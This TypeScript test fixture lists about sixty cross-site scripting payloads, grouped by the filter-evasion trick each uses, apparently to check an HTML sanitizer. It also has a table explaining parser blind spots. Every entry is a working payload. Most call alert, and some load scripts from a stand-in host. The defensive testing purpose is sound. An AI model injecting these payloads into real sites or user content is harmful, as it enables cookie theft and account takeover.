/**
 * Cross-site scripting vectors in the manner of the OWASP XSS filter-evasion cheat sheet, written
 * for these tests: each tries to run `alert`, or to reach `beacon.invalid`, if it survives
 * cleaning, escaping or a reader. Grouped by the trick each uses to slip past a filter.
 */
export const XSS_VECTORS: readonly { name: string; html: string }[] = [
  // Script elements, plain and disguised.
  { name: 'script element', html: '<script>alert(1)</script>' },
  { name: 'script from elsewhere', html: '<SCRIPT SRC=http://beacon.invalid/xss.js></SCRIPT>' },
  {
    name: 'script with a non-alpha separator',
    html: '<SCRIPT/XSS SRC="http://beacon.invalid/xss.js"></SCRIPT>',
  },
  { name: 'extraneous open brackets', html: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>' },
  { name: 'script never closed', html: '<SCRIPT SRC=http://beacon.invalid/xss.js?< B >' },
  { name: 'closing the title first', html: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>' },
  { name: 'quotes that end the tag early', html: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">' },
  { name: 'conditional comment', html: "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->" },
  { name: 'CDATA section', html: '<![CDATA[<script>alert(1)</script>]]>' },
  { name: 'script in a template', html: '<template><script>alert(1)</script></template>' },
  // Event handlers.
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>' },
  { name: 'anchor onmouseover', html: '<a onmouseover="alert(document.cookie)">xxs link</a>' },
  {
    name: 'onerror built from char codes',
    html: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  },
  {
    name: 'onerror as padded decimal entities',
    html: `<img src=x onerror="${[...'alert(1)'].map((c) => `&#0000${c.charCodeAt(0)}`).join('')}">`,
  },
  { name: 'body onload with odd characters', html: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>' },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)>x</details>' },
  { name: 'unknown element onclick', html: '<x onclick=alert(1)>click me</x>' },
  { name: 'image alias onerror', html: '<image src=x onerror=alert(1)>' },
  { name: 'video source onerror', html: '<video><source onerror="alert(1)"></video>' },
  { name: 'unterminated img onerror', html: '<img src="x" onerror="alert(1)"' },
  // javascript:, vbscript: and data: URLs, and ways of hiding the scheme.
  { name: 'javascript: in img src', html: `<IMG SRC="javascript:alert('XSS');">` },
  { name: 'mixed-case scheme', html: "<IMG SRC=JaVaScRiPt:alert('XSS')>" },
  { name: 'grave accents', html: '<IMG SRC=`javascript:alert("XSS")`>' },
  {
    name: 'scheme as decimal entities',
    html: `<a href="${[...'javascript:alert(1)'].map((c) => `&#${c.charCodeAt(0)};`).join('')}">x</a>`,
  },
  {
    name: 'scheme as hex entities without semicolons',
    html: `<a href=${[...'javascript:alert(1)'].map((c) => `&#x${c.charCodeAt(0).toString(16)}`).join('')}>x</a>`,
  },
  { name: 'named entity colon', html: '<a href="javascript&colon;alert(1)">x</a>' },
  { name: 'embedded tab', html: '<a href="jav\tascript:alert(\'XSS\');">x</a>' },
  { name: 'embedded encoded newline', html: '<a href="jav&#x0A;ascript:alert(\'XSS\');">x</a>' },
  { name: 'embedded null', html: '<a href="java\u0000script:alert(1)">x</a>' },
  { name: 'leading space and control', html: '<a href=" &#14;  javascript:alert(\'XSS\');">x</a>' },
  { name: 'vbscript', html: '<a href="vbscript:msgbox(1)">x</a>' },
  {
    name: 'data: HTML link',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  },
  { name: 'input of type image', html: `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">` },
  { name: 'form action', html: '<form action="javascript:alert(1)"><button>go</button></form>' },
  { name: 'button formaction', html: '<form><button formaction="javascript:alert(1)">go</button></form>' },
  { name: 'srcset', html: '<img srcset="javascript:alert(1) 1x" src="x.png">' },
  // SVG and MathML.
  { name: 'svg onload', html: "<svg/onload=alert('XSS')>" },
  { name: 'script inside svg', html: '<svg><script>alert(1)</script></svg>' },
  {
    name: 'svg link with xlink:href',
    html: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  },
  {
    name: 'svg animate setting href',
    html: '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>go</text></a></svg>',
  },
  {
    name: 'MathML maction',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICKME</maction></math>',
  },
  {
    name: 'MathML namespace confusion',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  },
  // Styles.
  { name: 'style expression', html: `<DIV STYLE="width: expression(alert('XSS'));">x</DIV>` },
  {
    name: 'style url with javascript',
    html: `<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>`,
  },
  { name: 'style element importing', html: "<STYLE>@import'http://beacon.invalid/xss.css';</STYLE>" },
  {
    name: 'style binding',
    html: '<STYLE>BODY{-moz-binding:url("http://beacon.invalid/xss.xml#xss")}</STYLE>',
  },
  // Frames, embedding and document-level elements.
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'iframe javascript src', html: `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>` },
  {
    name: 'object scriptlet',
    html: '<OBJECT TYPE="text/x-scriptlet" DATA="http://beacon.invalid/s.html"></OBJECT>',
  },
  {
    name: 'embed data svg',
    html: '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
  },
  {
    name: 'meta refresh to javascript',
    html: `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  },
  {
    name: 'meta refresh to data',
    html: '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  },
  { name: 'base href', html: `<BASE HREF="javascript:alert('XSS');//">` },
  { name: 'link import', html: '<link rel=import href="http://beacon.invalid/x.html">' },
  // Parser and Unicode tricks.
  { name: 'noscript mutation', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'fullwidth brackets', html: '＜script＞alert(1)＜/script＞' },
  { name: 'escaped handler name', html: '<img src=x onerror=\\u0061lert(1)>' },
  { name: 'line separator before the scheme', html: '<a href="\u2028javascript:alert(1)">x</a>' },
  { name: 'right-to-left override around a tag', html: '\u202E<img src=x onerror=alert(1)>\u202C' },
];

/**
 * Vectors an HTML parser like htmlparser2 does not see as dangerous even as sent, because a
 * browser reads them its own way or not at all today; the Chromium check loads every one of them.
 */
export const PARSER_BLIND: Record<string, string> = {
  'conditional comment': 'a comment to every browser since IE 9',
  'CDATA section': 'a comment in HTML, text in SVG',
  'unterminated img onerror': 'a tag cut off at the end of input is dropped',
  'grave accents': 'only IE took a backquote for a quote',
  'noscript mutation':
    'with scripting on, a browser reads <noscript> as raw text: only it can judge this one',
  'fullwidth brackets': 'not markup, unless something folds it to ASCII',
  'line separator before the scheme': 'U+2028 is not stripped from a URL: a relative one',
};
